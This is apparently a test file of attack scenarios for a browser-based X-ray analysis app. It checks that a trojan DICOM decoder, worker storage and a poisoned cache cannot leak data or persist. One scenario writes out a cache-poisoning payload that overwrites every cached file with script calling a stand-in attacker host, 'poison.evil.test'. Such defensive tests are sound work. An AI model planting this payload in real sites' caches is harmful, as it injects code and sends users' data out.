/* scenarios.js - attacks in several steps, and a visit without one, against the servers' own log.
 * SPDX-License-Identifier: MIT */
import { openControl, openRoom, sleep } from "./places.js";

const FILM = "model/samples/nih_00000001_000.png";
/* Its frame is compressed, so a decoder's worker sees it. */
const COMPRESSED = "film.dcm";

/** Reads films by the page's code, which gets nothing back, and waits for them. */
async function readFilms(page, room, count) {
  await page.evaluate((n) => {
    for (let i = 0; i < n; i += 1) void document.querySelector("evax-xray").analyze(globalThis.film, { name: `${i}` });
  }, count);
  for (let tries = 0; ; tries += 1) {
    const done = await room.evaluate(() => document.querySelector("evax-xray").shadowRoot.querySelectorAll(".films li.done").length);
    if (done >= count) return;
    if (tries > 900) throw new Error(`${done} of ${count} films were read`);
    await sleep(100);
  }
}

const fetchFilm = (page, film = FILM) => page.evaluate(async (address) => {
  globalThis.film = await (await fetch(address)).blob();
}, film);

/** The scores of the film that is shown. */
const scores = (room) => room.evaluate(() => [...document.querySelector("evax-xray").shadowRoot
  .querySelectorAll(".results tbody tr")].map((row) => row.textContent));

/* Within this all that a trojan tries has been tried. */
const DECODER_MS = 5_000;

/** Starts a decoder as a page without a room would. @param {string} address of its compressed script */
async function runDecoder(address) {
  const { body } = await fetch(address);
  const script = await new Response(body.pipeThrough(new DecompressionStream("gzip"))).blob();
  const worker = new Worker(URL.createObjectURL(new Blob([script], { type: "text/javascript" })));
  globalThis.decoder = worker;
  worker.postMessage({ decoder: "jpeg-12", bytes: new Uint8Array(4), pixels: 1, samples: 1, bits: 8, memory: 1 << 20 });
}

/** Names of all that this origin keeps. */
const keptBy = (page) => page.evaluate(async () =>
  [...await caches.keys(), ...(await indexedDB.databases()).map(({ name }) => name)]);

/** What a worker of the room finds in Cache Storage, and what comes of keeping something there. */
const keepInWorker = (room) => room.evaluate(() => new Promise((resolve) => {
  const script = `onmessage = async () => {
    try {
      const before = await caches.keys();
      await (await caches.open("leak")).put("http://localhost/stash", new Response("kept"));
      postMessage({ before, said: "kept while the room is there" });
    } catch ({ name }) {
      postMessage({ before: [], said: "refused: " + name });
    }
  };`;
  const worker = new Worker(URL.createObjectURL(new Blob([script], { type: "text/javascript" })));
  worker.onmessage = ({ data }) => resolve(data);
  worker.postMessage(null);
}));

/** Ends the worker and lets go of all but the site's own. */
async function forgetAll() {
  globalThis.decoder.terminate();
  await caches.delete("leak");
  indexedDB.deleteDatabase("leak");
}

/** A digest of all that this origin keeps in caches. */
const cachesOf = (page) => page.evaluate(async () => {
  const all = [];
  for (const name of (await caches.keys()).sort()) {
    const cache = await caches.open(name);
    for (const request of await cache.keys()) {
      const bytes = await (await cache.match(request)).arrayBuffer();
      all.push([name, request.url, ...new Uint8Array(await crypto.subtle.digest("SHA-256", bytes))].join());
    }
  }
  return all.sort().join("\n");
});

/** Reads a film whose decoder is the trojan; then once more, on a second visit. "" if all is as it should be. */
async function readByTrojan(page, lab, carried) {
  const found = [];
  for (const visit of ["first", "second"]) {
    const room = await openRoom(page);
    await fetchFilm(page, COMPRESSED);
    const [from, kept] = [lab.log.length, await cachesOf(page)];
    await readFilms(page, room, 1);
    await sleep(DECODER_MS);
    found.push(JSON.stringify(await scores(room)));
    const out = [...carried(from), ...ofPages(lab.log.slice(from)).map(({ text }) => text)];
    if (out.length > 0) return `on the ${visit} visit ${out} left`;
    if (await cachesOf(page) !== kept || (await keptBy(page)).includes("leak")) return `on the ${visit} visit something was kept`;
  }
  return found[0] === found[1] && found[0] !== "[]" ? "" : "the findings changed";
}

/* What a browser asks by itself, to look for a newer service worker: nothing of the page goes with it. */
const UPDATE = /^GET http:\/\/localhost\/service-worker\.js +(referer=http:\/\/localhost\/(service-worker\.js)? )?service-worker=script( sec-fetch-dest=serviceworker)? *$/;
/** Lines of the log that this browser's page caused: not what a browser asks its maker. */
const ofPages = (lines) => lines.filter(({ text }) => /localhost|evil\.test/.test(text) && !UPDATE.test(text));

/* Browsers end an idle service worker after half a minute, and may look for a newer one then. */
const IDLE_MS = 45_000;

/** How often the browser looked for a newer service worker after the seal, on a visit that the service worker answers.
 * @param {string} cacheControl that the host sends with service-worker.js */
async function looksAfterSeal(profile, lab, cacheControl) {
  lab.headers["/service-worker.js"] = { "cache-control": cacheControl };
  const page = await profile.newPage();
  for (const _ of ["first", "second"]) {
    await openRoom(page);
    await sleep(3_000);
  }
  const room = await openRoom(page);
  await fetchFilm(page);
  const from = lab.log.length;
  await readFilms(page, room, 1);
  await sleep(IDLE_MS);
  await page.close();
  const after = lab.log.slice(from);
  return { other: ofPages(after), looks: after.filter(({ text }) => UPDATE.test(text)).length };
}

/** By name: "" if it goes as SECURITY.md says, with what was counted after "as said: "; else what happened. */
export const SCENARIOS = {
  async "an innocent visit of 50 films: the servers' log after the seal is empty, but for the browser's own look for a newer service worker"({ profile, lab }) {
    const page = await profile.newPage();
    const room = await openRoom(page);
    await fetchFilm(page);
    const from = lab.log.length;
    await readFilms(page, room, 50);
    await sleep(3_000);
    await page.close();
    return ofPages(lab.log.slice(from)).map(({ kind, text }) => `${kind} ${text}`).join("; ");
  },

  async "the browser's own look for a newer service worker after the seal, until that has been idle"({ profile, lab }) {
    const counts = [];
    for (const cacheControl of ["max-age=600", "no-cache"]) {
      const { other, looks } = await looksAfterSeal(profile, lab, cacheControl);
      if (other.length > 0) return other.map(({ text }) => text).join("; ");
      counts.push(`${looks} with cache-control: ${cacheControl}`);
    }
    delete lab.headers["/service-worker.js"];
    return `as said: ${counts.join(", ")}; of the page its address alone goes along`;
  },

  async "what a worker of the room keeps, where it can, is gone on the next visit, and never the page's"({ profile }) {
    const page = await profile.newPage();
    await keepInWorker(await openRoom(page));
    if ((await keptBy(page)).includes("leak")) return "the page has it";
    const found = await keepInWorker(await openRoom(page));
    await page.close();
    return found.before.includes("leak") ? "it is there on the next visit" : `as said: ${found.said}`;
  },

  async "a compromised decoder of DICOM frames, in the worker that the page itself starts for a film: nothing leaves, nothing is kept, the next visit is as this one"({ profile, lab, trojan, carried }) {
    const [site, from] = [lab.folder, lab.log.length];
    const page = await profile.newPage();
    lab.folder = trojan.folder;
    try {
      await openControl(page);
      await page.evaluate(runDecoder, trojan.decoder);
      await sleep(DECODER_MS);
      const open = carried(from);
      if (open.length < 10 || !(await keptBy(page)).includes("leak")) return `it is no trojan: only ${open} leave an open page`;
      await page.evaluate(forgetAll);
      return await readByTrojan(page, lab, carried);
    } finally {
      lab.folder = site;
      await page.close();
    }
  },

  async "a poisoned cache: another page of the origin rewrites all that is kept; nothing changes and nothing leaves"({ profile, lab }) {
    const page = await profile.newPage();
    const before = await openRoom(page);
    await fetchFilm(page);
    await readFilms(page, before, 1);
    const expected = await scores(before);
    await page.goto("http://localhost/open.html");
    const rewritten = await page.evaluate(async () => {
      let count = 0;
      for (const name of await caches.keys()) {
        const cache = await caches.open(name);
        for (const request of await cache.keys()) {
          const type = (await cache.match(request)).headers.get("content-type") ?? "";
          const evil = type.includes("html")
            ? "<!doctype html><script>fetch('https://poison.evil.test/')</script>" : "fetch('https://poison.evil.test/')";
          await cache.put(request, new Response(evil, { headers: { "content-type": type } }));
          count += 1;
        }
      }
      return count;
    });
    if (rewritten < 10) return `only ${rewritten} files were there to rewrite`;
    const from = lab.log.length;
    const after = await openRoom(page);
    await fetchFilm(page);
    await readFilms(page, after, 1);
    const found = await scores(after);
    await page.close();
    if (JSON.stringify(found) !== JSON.stringify(expected)) return "the findings changed";
    return lab.log.slice(from).filter(({ text }) => text.includes("poison.evil")).map(({ text }) => text).join("; ");
  },
};
